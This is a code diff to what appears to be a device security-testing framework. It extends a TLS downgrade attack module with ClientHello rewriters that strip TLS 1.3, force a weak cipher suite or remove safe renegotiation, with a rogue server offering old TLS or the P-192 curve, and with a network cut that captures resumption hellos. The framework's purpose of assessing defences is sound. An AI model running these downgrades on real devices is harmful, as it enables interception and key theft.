@@ -20,6 +20,7 @@ from offchip.scene.defence import Defence
 from offchip.vault import NONE, MediumKind
 
 _SPEAKS_S = 3.0
+_CUT_S = 0.1
 #: two signatures with one nonce are enough
 SESSIONS = 3
 #: until a device has said what it made of a call
@@ -175,8 +176,15 @@ class Downgrade(Enum):
     NO_TLS_1_3 = "no-tls-1.3"
     OLD_VERSION = "old-version"
     WEAK_SUITE = "weak-suite"
+    NO_SAFE_RENEGOTIATION = "no-safe-renegotiation"
     OLD_SERVER = "old-server"
+    WEAK_CURVE = "weak-curve"
+    RESUMPTION = "resumption"
     SIGNATURES = "signatures"
+
+
+#: where his server is the other end
+_OWN_SERVER = (Downgrade.OLD_SERVER, Downgrade.WEAK_CURVE, Downgrade.SIGNATURES)
 
 
 @dataclass(frozen=True)
@@ -187,11 +195,15 @@ class DowngradeTls(Attack):
     | no-tls-1.3 | the device's offer of TLS 1.3 is taken out of its ClientHello on the way |
     | old-version | its ClientHello says TLS 1.0 and nothing newer |
     | weak-suite | it offers TLS_RSA_WITH_AES_128_CBC_SHA alone, without forward secrecy |
+    | no-safe-renegotiation | its sign that it renegotiates safely (RFC 5746, 3.3) is taken out |
     | old-server | a server of the attacker's answers that speaks TLS 1.0 and 1.1 only |
+    | weak-curve | his server agrees on keys on P-192 only, which gives 96 bits of security |
+    | resumption | the network is cut behind the first session; the device may come back with a ticket of it, which |
+    | | would spare its server the certificates |
     | signatures | his server asks for the device's certificate and lets it sign, three times; all signatures are then |
     | | checked, compared, and the private key computed from any two that share a nonce, or from a nonce below 4096 |
 
-    ``medium``: for the last two, where the attacker's CA certificate is put first (``none``: nowhere).
+    ``medium``: where his own server answers, on what the attacker's CA certificate is put first (``none``: nowhere).
     """
 
     id, title, keyword = "A28", "TLS downgrade, key from recorded sessions", "Downgrade The Connection"
@@ -203,20 +215,20 @@ class DowngradeTls(Attack):
     def applies(self, defence: Defence) -> Applies:
         if self.medium is not NONE and defence.medium is not self.medium:
             return Applies(False, f"under {defence.scheme.name} the device does not read the {self.medium.name} medium")
-        if self.medium is not NONE and self.how not in (Downgrade.OLD_SERVER, Downgrade.SIGNATURES):
+        if self.medium is not NONE and self.how not in _OWN_SERVER:
             return Applies(False, "on the way between device and genuine server no CA certificate is needed")
         return Applies(True, "whoever holds the network can change what is said before the keys are agreed")
 
     def fire(self, scene: Reach) -> list[Evidence]:
         if self.how is Downgrade.SIGNATURES:
             return self._collect(scene)
-        if self.how is Downgrade.OLD_SERVER:
-            return self._old_server(scene)
-        return self._on_the_way(scene)
+        if self.how in _OWN_SERVER:
+            return self._worse_server(scene)
+        return self._twice(scene) if self.how is Downgrade.RESUMPTION else self._on_the_way(scene)
 
     def _on_the_way(self, scene: Reach) -> list[Evidence]:
         changes = {Downgrade.NO_TLS_1_3: without_tls_1_3, Downgrade.OLD_VERSION: with_old_version,
-                   Downgrade.WEAK_SUITE: with_weak_suite}
+                   Downgrade.WEAK_SUITE: with_weak_suite, Downgrade.NO_SAFE_RENEGOTIATION: without_safe_renegotiation}
         change = changes[self.how]
         seen: list[tuple[bytes, bytes]] = []
 
@@ -240,12 +252,38 @@ class DowngradeTls(Attack):
         return [self.note(scene, "change the offer", scene.address, f"{self.how.value}; {words[0] if words else ''}",
                           before=seen[0][0], after=seen[0][1], received=line.recorded(Direction.TO_DEVICE))]
 
-    def _old_server(self, scene: Reach) -> list[Evidence]:
+    def _worse_server(self, scene: Reach) -> list[Evidence]:
         evidence = plant(self, scene, self.medium)
         rogue = scene.answer_as_server(scene.authority.issue_server([scene.host]))
-        rogue.speak_old_tls()
+        if self.how is Downgrade.OLD_SERVER:
+            rogue.speak_old_tls()
+        else:
+            rogue.agree_on_a_weak_curve()
         await_reaction(scene, rogue)
-        return [*evidence, calls(self, scene, rogue, "answer with TLS 1.0 and 1.1", rogue.identity.certificate_der)]
+        terms = "with TLS 1.0 and 1.1" if self.how is Downgrade.OLD_SERVER else "with P-192"
+        return [*evidence, calls(self, scene, rogue, f"answer {terms}", rogue.identity.certificate_der)]
+
+    def _twice(self, scene: Reach) -> list[Evidence]:
+        """Two sessions of one life of the device, the second right behind the first; both ClientHellos are kept."""
+        line, modem = Proxy(scene.server), scene.board.modem
+        if modem is None:
+            raise AttackFailed("the board has no modem: there is no network to be cut")
+        scene.board.internet.redirect(scene.host, scene.port, line)
+        scene.start()
+        for number in (1, 2):
+            self._await_session(scene, line, number)
+            modem.network_up = False
+            scene.board.run(_CUT_S)
+            modem.network_up = True
+        scene.board.internet.restore(scene.host, scene.port)
+        return [self.note(scene, "record a ClientHello", scene.address, f"of session {number}", received=each)
+                for number, each in enumerate(hellos(line), 1)]
+
+    @staticmethod
+    def _await_session(scene: Reach, line: Proxy, number: int) -> None:
+        said = len(scene.board.console.lines)
+        await_or_fail(scene, lambda: len(hellos(line)) >= number and any(
+            each.text.startswith("mqtt: published") for each in scene.board.console.lines[said:]), f"session {number}")
 
     def _collect(self, scene: Reach) -> list[Evidence]:
         evidence = plant(self, scene, self.medium)
@@ -271,6 +309,12 @@ class DowngradeTls(Attack):
                                      received=b"".join(each.encoded for each in signatures) or b"nothing was signed")]
 
 
+def hellos(line: Proxy) -> list[bytes]:
+    """The ClientHellos that a line has seen, one a connection."""
+    return [each.data for each in line.chunks if each.direction is Direction.TO_SERVER and each.data[:1] == b"\x16"
+            and each.data[5:6] == b"\x01"]
+
+
 def without_tls_1_3(record: bytes) -> bytes:
     """A ClientHello whose supported_versions name TLS 1.2 twice (RFC 8446, 4.2.1): no length changes."""
     return record.replace(b"\x03\x04\x03\x03", b"\x03\x03\x03\x03", 1)
@@ -288,9 +332,19 @@ def with_old_version(record: bytes) -> bytes:
 
 def with_weak_suite(record: bytes) -> bytes:
     """A ClientHello that names one suite over and over: 0x002F, RSA key transport, CBC, SHA-1 (RFC 5246, A.5)."""
-    changed = bytearray(record)
+    start, end = _suites(record)
+    return record[:start] + b"\x00\x2f" * ((end - start) // 2) + record[end:]
+
+
+def without_safe_renegotiation(record: bytes) -> bytes:
+    """A ClientHello with a suite nobody knows (RFC 8701) in place of TLS_EMPTY_RENEGOTIATION_INFO_SCSV (RFC 5746)."""
+    start, end = _suites(record)
+    suites = [record[at:at + 2] for at in range(start, end, 2)]
+    return record[:start] + b"".join(b"\x0a\x0a" if each == b"\x00\xff" else each for each in suites) + record[end:]
+
+
+def _suites(record: bytes) -> tuple[int, int]:
+    """Where a ClientHello's cipher suites begin and end (RFC 5246, 7.4.1.2)."""
     at = 5 + 4 + 2 + 32
-    at += 1 + changed[at]
-    size = int.from_bytes(changed[at:at + 2], "big")
-    changed[at + 2:at + 2 + size] = b"\x00\x2f" * (size // 2)
-    return bytes(changed)
+    at += 1 + record[at]
+    return at + 2, at + 2 + int.from_bytes(record[at:at + 2], "big")
